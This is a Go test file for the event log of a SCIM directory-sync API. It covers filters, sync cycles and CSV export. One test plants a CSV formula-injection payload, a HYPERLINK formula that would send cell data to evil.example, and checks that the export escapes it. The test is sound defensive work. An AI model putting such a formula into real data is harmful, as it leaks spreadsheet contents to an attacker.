package api_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"runtime"
	"runtime/metrics"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"rollcall/desk"
	"rollcall/internal/testkit"
	"rollcall/store"
)

// directory sends a request as the directory, with a request id.
func (t *server) directory(method, path, requestID, body string) {
	t.Helper()
	r, err := http.NewRequestWithContext(t.Context(), method, t.scim+path, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	r.Header.Set("Authorization", "Bearer "+t.scimToken)
	r.Header.Set("Content-Type", "application/scim+json")
	r.Header.Set("X-Request-Id", requestID)
	answer, err := http.DefaultClient.Do(r)
	if err != nil {
		t.Fatal(err)
	}
	answer.Body.Close()
}

// log returns what the log has, newest first: operation, outcome and person.
func (t *server) log(query string) []string {
	t.Helper()
	found := []string{}
	for _, e := range t.items("/connections/entra/events?limit=2&" + query) {
		found = append(found, strings.TrimSpace(fmt.Sprint(e["operation"], " ", e["outcome"], " ", cmpOr(e["contactName"], e["subject"], ""))))
	}
	return found
}

func cmpOr(list ...any) any {
	for _, v := range list {
		if v != nil {
			return v
		}
	}
	return nil
}

func TestSyncLog(t *testing.T) {
	each(t, func(t *server) {
		before := time.Now().UTC().Format(time.RFC3339Nano)
		scimID, kofi := t.push(`{"userName":"kofi@acme.example","displayName":"Kofi Mensah","active":true}`)
		t.directory("POST", "/Users", "first-try", `{"userName":"kofi@acme.example"}`)
		t.directory("PATCH", "/Users/"+scimID, "second-try", `{"schemas":["urn:ietf:params:scim:api:messages:2.0:PatchOp"],"Operations":[{"op":"replace","path":"title","value":"Lead"}]}`)
		between := time.Now().UTC().Format(time.RFC3339Nano)
		t.directory("POST", "/Users", "", `{"userName":"ann@acme.example","displayName":"Ann"}`)
		t.directory("PUT", "/Users/nobody", "third-try", `{"userName":"bob@acme.example"}`)

		created, refused, updated := "create created Kofi Mensah", "create refused Kofi Mensah", "patch updated Kofi Mensah"
		ann, bob := "create created Ann", "replace refused bob@acme.example"
		for query, want := range map[string][]string{
			"from=" + url.QueryEscape(before):                                     {bob, ann, updated, refused, created},
			"from=" + url.QueryEscape(before) + "&to=" + url.QueryEscape(between): {updated, refused, created},
			"from=" + url.QueryEscape(between):                                    {bob, ann},
			"outcome=refused":                                                     {bob, refused},
			"outcome=refused&outcome=updated":                                     {bob, updated, refused},
			"operation=patch":                                                     {updated},
			"operation=patch&operation=replace":                                   {bob, updated},
			"operation=replace&outcome=updated":                                   {},
			"request=second-try":                                                  {updated},
			"request=second":                                                      {},
			"person=" + kofi:                                                      {updated, refused, created},
			"person=" + scimID:                                                    {updated, created},
			"person=KOFI%40acme.example":                                          {updated, refused, created},
			"person=%20bob%40acme.example%20&outcome=refused":                     {bob},
			"person=%20":                                                          {},
			"person=" + kofi + "&request=first-try":                               {refused},
		} {
			if diff := cmp.Diff(want, t.log(query)); diff != "" {
				t.Errorf("%s: %s", query, diff)
			}
		}
		for _, query := range []string{"outcome=lost", "outcome=created,refused", "operation=x", "from=yesterday", "to=2026-13-01T00:00:00Z", "cycle=nothing", "limit=0"} {
			t.do("GET", "/connections/entra/events?"+query, nil, 400)
		}
		event := t.do("GET", "/connections/entra/events?request=second-try", nil, 200)["items"].([]any)[0].(map[string]any)
		if took, _ := event["durationMs"].(float64); took <= 0 || took > 60_000 || event["requestId"] != "second-try" || event["scimId"] != scimID || event["contactId"] != kofi {
			t.Errorf("an event is shown as %v", event)
		}

		t.do("DELETE", "/contacts/"+kofi, nil, 204)
		t.do("POST", "/contacts/"+kofi+"/erase", nil, 204)
		if diff := cmp.Diff([]string{"patch updated", "create refused", "create created"}, t.log("person="+kofi)); diff != "" {
			t.Errorf("after erasure: %s", diff)
		}
		if list := t.log("person=kofi%40acme.example"); len(list) > 0 {
			t.Errorf("the erased person is found by their name: %v", list)
		}
	})
}

// TestCycleList holds what is told of cycles, and that what a directory only reads is activity too.
func TestCycleList(t *testing.T) {
	each(t, func(t *server) {
		shown := func() map[string]any { return t.items("/connections")[0] }
		if c := shown(); c["lastActivityAt"] != nil {
			t.Errorf("a connection that was never used was active at %v", c["lastActivityAt"])
		}
		offset := time.Duration(0)
		t.Store.Now = func() time.Time { return time.Now().Add(offset) }
		write := func() {
			if err := t.Store.WriteActivity(t.Context()); err != nil {
				t.Fatal(err)
			}
		}
		for i := range 3 {
			offset = time.Duration(i) * time.Hour
			t.directory("GET", "/Users?filter=userName+eq+%22x%22", "", "")
			t.directory("POST", "/Users", "", fmt.Sprintf(`{"userName":"user%d"}`, i))
			t.directory("POST", "/Users", "", fmt.Sprintf(`{"userName":"user%d"}`, i))
			write()
		}
		cycles := t.items("/connections/entra/cycles?limit=2")
		if len(cycles) != 3 {
			t.Fatalf("%d cycles", len(cycles))
		}
		if at, _ := shown()["lastActivityAt"].(string); at == "" || at != cycles[0]["endedAt"] {
			t.Errorf("last active at %v, the last cycle ended at %v", at, cycles[0]["endedAt"])
		}
		for i, c := range cycles {
			started, _ := time.Parse(time.RFC3339Nano, c["startedAt"].(string))
			if late := time.Since(started) + time.Duration(2-i)*time.Hour; late < 0 || late > time.Minute {
				t.Errorf("cycle %d began at %v", i, started)
			}
			events := t.items("/connections/entra/events?limit=1&cycle=" + c["id"].(string))
			if len(events) != 2 {
				t.Errorf("cycle %d has %d events", i, len(events))
			}
			for _, field := range []string{"id", "startedAt", "endedAt"} {
				delete(c, field)
			}
			want := map[string]any{
				"running": i == 0, "synced": 1., "outcomes": map[string]any{"created": 1., "refused": 1.}, "unchanged": 0., "skipped": 0.,
				"failed": 1., "errors": 0., "lookups": 1.,
			}
			if diff := cmp.Diff(want, c); diff != "" {
				t.Errorf("cycle %d: %s", i, diff)
			}
		}
		t.do("GET", "/connections/nobody/cycles", nil, 404)
	})
}

func TestCSV(t *testing.T) {
	each(t, func(t *server) {
		t.directory("POST", "/Users", "r1", `{"userName":"kofi@acme.example","displayName":"=HYPERLINK(\"http://evil.example?\"&A1,\"Kofi\")","title":"Lead, \"the\" best"}`)
		t.directory("POST", "/Users", "r2", `{"userName":"-kofi@acme.example","active":"perhaps"}`)
		answer := testkit.Call(t, "GET", t.URL+"/api/v1/connections/entra/events.csv?operation=create&request=r1&from=2026-01-01T00:00:00%2B01:00", t.agent, nil)
		if answer.Status != 200 || answer.Header.Get("Content-Type") != "text/csv; charset=utf-8" ||
			answer.Header.Get("Content-Disposition") != `attachment; filename="entra-events-from-20251231T230000Z.csv"` {
			t.Errorf("%d %v", answer.Status, answer.Header)
		}
		if lines := strings.Split(string(answer.Body), "\r\n"); len(lines) != 3 || lines[2] != "" || strings.Contains(strings.Join(lines, ""), "\n") ||
			!strings.HasPrefix(lines[0], "\ufefftime (UTC),operation,outcome,reason,detail,person,") {
			t.Errorf("%q", answer.Body)
		}
		rows := t.csv("request=r1")
		event := t.do("GET", "/connections/entra/events?request=r1", nil, 200)["items"].([]any)[0].(map[string]any)
		at, err := time.Parse(time.RFC3339Nano, event["at"].(string))
		if err != nil {
			t.Fatal(err)
		}
		want := []string{
			at.Format("2006-01-02 15:04:05.000"), "create", "created", "no_match", "", `'=HYPERLINK("http://evil.example?"&A1,"Kofi")`, "",
			"displayName, userName, title, companyReason, status, active", "directory entra", fmt.Sprintf("%.3f", event["durationMs"]),
			event["contactId"].(string), event["scimId"].(string), "r1", event["id"].(string), "entra",
		}
		if diff := cmp.Diff([][]string{want}, rows); diff != "" {
			t.Error(diff)
		}
		if row := t.csv("request=r2")[0]; row[2] != "refused" || row[3] != "invalidValue" || row[4] == "" || row[6] != "'-kofi@acme.example" {
			t.Errorf("a refusal is %q", row)
		}
		if rows := t.csv("person=nobody"); len(rows) != 0 {
			t.Errorf("nobody did %v", rows)
		}
		for path, status := range map[string]int{"entra/events.csv?cycle=x": 400, "nobody/events.csv": 404, "entra/events.csv?outcome=x": 400} {
			answer := testkit.Call(t, "GET", t.URL+"/api/v1/connections/"+path, t.agent, nil)
			if answer.Status != status || answer.Header.Get("Content-Type") != "application/problem+json" || answer.Header.Get("Content-Disposition") != "" {
				t.Errorf("%s: %d %v", path, answer.Status, answer.Header)
			}
		}
	})
}

// csv returns the rows of a report below its heading.
func (t *server) csv(query string) [][]string {
	t.Helper()
	answer := testkit.Call(t, "GET", t.URL+"/api/v1/connections/entra/events.csv?"+query, t.agent, nil)
	answer.Want(t, 200)
	rows, err := csv.NewReader(bytes.NewReader(answer.Body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows[1:]
}

// addEvents fills the log quickly.
func (t *server) addEvents(databaseURL string, n int) {
	t.Helper()
	series, changes := "generate_series(1, %d) AS n(i)", `'[{"field":"title","from":null,"to":"Lead"}]'::json`
	if t.Store.Engine() == store.SQLite {
		series, changes = "(WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < %d) SELECT i FROM n) AS n", `'[{"field":"title","from":null,"to":"Lead"}]'`
	}
	_, err := testkit.OpenSQL(t, databaseURL).Exec(fmt.Sprintf("INSERT INTO events (tenant_id, connection, id, at, actor_type, actor_name, operation, outcome, reason, detail, contact_id, user_id, subject,"+
		" subject_key, changes, request_id) SELECT 'main', 'entra', '00000000-0000-7000-8000-' || substr('' || (100000000000 + i), 1, 12), (SELECT created_at FROM tenants), 'directory', 'entra', 'patch', 'updated', '', '',"+
		" 'p' || i, 'u' || i, '', '', "+changes+", 'r' || i FROM "+series, n))
	if err != nil {
		t.Fatal(err)
	}
}

// TestLongCSV holds that a long report is whole, in order, and is never held in memory.
func TestLongCSV(t *testing.T) {
	const events = 50_000
	testkit.Databases(t, func(t *testing.T, databaseURL string) {
		s := &server{T: t, Server: testkit.NewServer(t, databaseURL)}
		s.scim, s.scimToken = s.Connect(t, "main", "entra")
		s.agent = s.Token(t, "main", desk.RoleAgent)
		s.addEvents(databaseURL, events)
		r, err := http.NewRequestWithContext(t.Context(), "GET", s.URL+"/api/v1/connections/entra/events.csv?outcome=updated&outcome=refused", nil)
		if err != nil {
			t.Fatal(err)
		}
		r.Header.Set("Authorization", "Bearer "+s.agent)
		answer, err := http.DefaultClient.Do(r)
		if err != nil {
			t.Fatal(err)
		}
		defer answer.Body.Close()
		rows := csv.NewReader(answer.Body)
		rows.ReuseRecord = true
		if _, err := rows.Read(); err != nil {
			t.Fatal(err)
		}
		var early, most uint64
		for i := events; i > 0; i-- {
			row, err := rows.Read()
			if err != nil {
				t.Fatalf("after %d rows: %v", events-i, err)
			}
			if row[12] != fmt.Sprint("r", i) {
				t.Fatalf("row %d is of %s", events-i, row[12])
			}
			if i%5000 == 0 {
				// What is in use: the server goes on making garbage, as much as there is until the next collection.
				live := []metrics.Sample{{Name: "/gc/heap/live:bytes"}}
				runtime.GC()
				metrics.Read(live)
				if early == 0 {
					early = live[0].Value.Uint64()
				}
				most = max(most, live[0].Value.Uint64())
			}
		}
		if _, err := rows.Read(); err != io.EOF {
			t.Errorf("after the last row: %v", err)
		}
		if most > early+8<<20 {
			t.Errorf("the heap grew from %d to %d kB", early>>10, most>>10)
		}
	})
}

// TestBrokenCSV holds that a report which cannot be finished does not look finished.
func TestBrokenCSV(t *testing.T) {
	testkit.Databases(t, func(t *testing.T, databaseURL string) {
		s := &server{T: t, Server: testkit.NewServer(t, databaseURL)}
		s.scim, s.scimToken = s.Connect(t, "main", "entra")
		s.agent = s.Token(t, "main", desk.RoleAgent)
		s.addEvents(databaseURL, 5000)
		inner, db := s.Handler, testkit.OpenSQL(t, databaseURL)
		var once sync.Once
		s.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			inner.ServeHTTP(&tripwire{w, func() {
				once.Do(func() {
					if _, err := db.Exec("DELETE FROM connections"); err != nil {
						t.Error(err)
					}
				})
			}}, r)
		})
		answer, err := testkit.Send(t.Context(), "GET", s.URL+"/api/v1/connections/entra/events.csv", s.agent, nil)
		if !errors.Is(err, io.ErrUnexpectedEOF) || answer.Status != 200 || bytes.Count(answer.Body, []byte("\n")) > 4000 {
			t.Errorf("%d, %d rows, %v", answer.Status, bytes.Count(answer.Body, []byte("\n")), err)
		}
	})
}

// tripwire calls a function when an answer begins.
type tripwire struct {
	http.ResponseWriter
	begun func()
}

func (w *tripwire) Write(b []byte) (int, error) {
	w.begun()
	return w.ResponseWriter.Write(b)
}

func (w *tripwire) Unwrap() http.ResponseWriter { return w.ResponseWriter }

// TestFilterEnums holds that all outcomes and operations can be asked for.
func TestFilterEnums(t *testing.T) {
	each(t, func(t *server) {
		for _, o := range desk.Outcomes {
			t.do("GET", "/connections/entra/events?outcome="+string(o), nil, 200)
		}
		for _, o := range desk.Operations {
			t.do("GET", "/connections/entra/events?operation="+string(o), nil, 200)
		}
		document := testkit.Call(t, "GET", t.URL+"/api/openapi.json", "", nil).Want(t, 200)
		shown := document["components"].(map[string]any)["schemas"].(map[string]any)["Event"].(map[string]any)["properties"].(map[string]any)
		for field, n := range map[string]int{"outcome": len(desk.Outcomes), "operation": len(desk.Operations)} {
			if list := shown[field].(map[string]any)["enum"].([]any); len(list) != n || slices.Contains(list, nil) {
				t.Errorf("%s of events: %v", field, list)
			}
		}
	})
}
